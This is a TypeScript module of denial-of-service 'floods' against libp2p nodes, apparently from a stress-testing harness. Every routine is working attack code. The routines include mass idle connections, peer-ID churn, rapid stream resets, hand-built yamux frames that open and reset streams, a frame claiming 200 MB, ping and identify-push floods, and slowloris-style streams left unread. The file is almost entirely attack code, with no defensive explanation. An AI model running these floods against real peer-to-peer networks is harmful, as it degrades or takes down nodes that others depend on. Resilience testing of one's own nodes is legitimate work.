import { setTimeout as delay } from 'node:timers/promises'
import { again, atRate, connectPeer, type HostilePeer, openStream, push } from '../peer.ts'
import { field, framed } from '../protobuf.ts'
import type { Flood, FloodContext } from '../types.ts'

const IDLE = 400
const SIDE_BY_SIDE = 8

/** Peers that connect, identify and do nothing more. */
export const idle: Flood = async (context) => {
  let index = 0
  const peers = new Set<HostilePeer>()
  await sideBySide(context, async () => {
    if (peers.size >= IDLE) return
    const peer = await connectPeer(context, context.host(index++))
    context.count('connected')
    peers.add(peer)
    peer.libp2p.addEventListener('peer:disconnect', () => peers.delete(peer))
  })
}

/** A new peer ID with each connection, as fast as the node takes them. */
export const peerIds: Flood = async (context) => {
  let index = 0
  await sideBySide(
    context,
    async () => {
      const { libp2p } = await connectPeer(context, context.host(index++), { protocols: [] })
      context.count('peer IDs')
      // Time enough for identify, then the next one.
      await delay(100)
      await libp2p.stop()
    },
    0,
  )
}

/** Streams that open and are reset at once, over every protocol. */
export const rapidReset: Flood = async (context) => {
  const protocols = await protocolsOf(context)
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(0))
    let index = 0
    await atRate(context.signal, 2000, async () => {
      if (peer.connection.status !== 'open') return false
      const protocol = protocols[index++ % protocols.length] ?? ''
      // Not awaited: the reset follows the request on its heels.
      openStream(peer, protocol).then((stream) => stream?.abort(new Error('reset')))
      context.count('streams')
      return true
    })
  })
}

/** The same beneath: frames that open a stream and frames that reset it, without a word in it. */
export const frameReset: Flood = async (context) => {
  await again(context, async () => {
    const peer = await connectPeer(context, context.host(1))
    let id = 1_000_001
    await atRate(context.signal, 5000, async () => {
      context.count('streams')
      id += 2
      return push(peer.raw, Buffer.concat([frame(1, 1, id, 0), frame(1, 8, id, 0)]))
    })
  })
}

/** Frames of the muxer that promise 200 MB, behind a handshake. */
export const frameBomb: Flood = async (context) => {
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(Math.floor(Math.random() * 48)))
    const body = Buffer.alloc(64 * 1024, 1)
    await push(peer.raw, frame(0, 1, 1_000_001, 200_000_000))
    context.count('frames')
    while (!context.signal.aborted && (await push(peer.raw, body))) context.count('bytes', 65_536)
    await peer.libp2p.stop()
  })
}

/** Pings of the muxer and of the protocol, as fast as they are taken. */
export const pings: Flood = async (context) => {
  const { target, signal, count } = context
  const byMuxer = again(context, async () => {
    const peer = await connectPeer(context, context.host(0))
    let id = 0
    await atRate(signal, 5000, () => {
      count('muxer pings')
      return push(peer.raw, frame(2, 1, 0, id++))
    })
  })
  const byProtocol = again(context, async () => {
    const peer = await connectPeer(context, context.host(1))
    const stream = await openStream(peer, `/${target.networkName}/ping/1.0.0`)
    if (stream === null) return
    const bytes = Buffer.alloc(32, 9)
    await atRate(signal, 5000, () => {
      count('pings')
      return push(stream, bytes)
    })
  })
  await Promise.all([byMuxer, byProtocol])
}

/** Identify pushes of 8 KiB with new addresses each time. */
export const identifyPushes: Flood = async (context) => {
  const { target, signal, count } = context
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(Math.floor(Math.random() * 16)))
    let round = 0
    await atRate(signal, 200, async () => {
      const stream = await openStream(peer, `/${target.networkName}/id/push/1.0.0`)
      if (stream === null) return peer.connection.status === 'open'
      round += 1
      const addresses = Array.from({ length: 300 }, (_, i) =>
        field(2, Buffer.from([4, 9, round & 255, (i >> 8) & 255, i & 255, 6, 0x0f, 0xa2])),
      )
      const protocols = Array.from({ length: 100 }, (_, i) =>
        field(3, Buffer.from(`/made-up/${round}/${i}`)),
      )
      const isSent = await push(stream, framed(Buffer.concat([...addresses, ...protocols])))
      count('pushes')
      stream.close().catch(() => {})
      return isSent || peer.connection.status === 'open'
    })
  })
}

/** Asks much over every protocol and reads nothing: no stream, and then not even the socket. */
export const neverReads: Flood = async (context) => {
  const { count, signal } = context
  const protocols = (await protocolsOf(context)).filter((name) => !name.includes('push'))
  const requests = [
    // Peer exchange: { n: 32 }; kad-dht: FIND_NODE; ping, and whatever they make of it.
    framed(Buffer.from([0xa1, 0x61, 0x6e, 0x18, 0x20])),
    framed(Buffer.concat([Buffer.from([0x08, 4]), field(2, Buffer.alloc(32, 3))])),
    Buffer.alloc(32 * 64, 5),
  ]
  let index = 0
  await sideBySide(context, async () => {
    const peer = await connectPeer(context, context.host(index++ % 96), {
      onStream: (stream) => stream.pause(),
    })
    await atRate(signal, 100, async () => {
      index += 1
      const stream = await openStream(peer, protocols[index % protocols.length] ?? '')
      if (stream === null) return peer.connection.status === 'open'
      stream.pause()
      for (const request of requests) if (!(await push(stream, request))) break
      count('requests', requests.length)
      // Some streams later nothing is read at all.
      if (index % 40 === 0) peer.socket.pause()
      return peer.connection.status === 'open'
    })
  })
}

/** What the node says it speaks. */
async function protocolsOf(context: FloodContext): Promise<string[]> {
  const { libp2p, connection } = await connectPeer(context, context.host(2))
  try {
    for (let i = 0; i < 100; i++) {
      const { protocols } = await libp2p.peerStore.get(connection.remotePeer)
      if (protocols.length > 0) return protocols
      await delay(50)
    }
    throw new Error('the node does not say what it speaks')
  } finally {
    await libp2p.stop()
  }
}

async function sideBySide(
  context: FloodContext,
  work: () => Promise<void>,
  pauseMs?: number,
): Promise<void> {
  await Promise.all(Array.from({ length: SIDE_BY_SIDE }, () => again(context, work, pauseMs)))
}

/** Twelve bytes before each frame of yamux. */
function frame(type: number, flags: number, stream: number, length: number): Buffer {
  const head = Buffer.alloc(12)
  head.writeUInt8(type, 1)
  head.writeUInt16BE(flags, 2)
  head.writeUInt32BE(stream, 4)
  head.writeUInt32BE(length, 8)
  return head
}
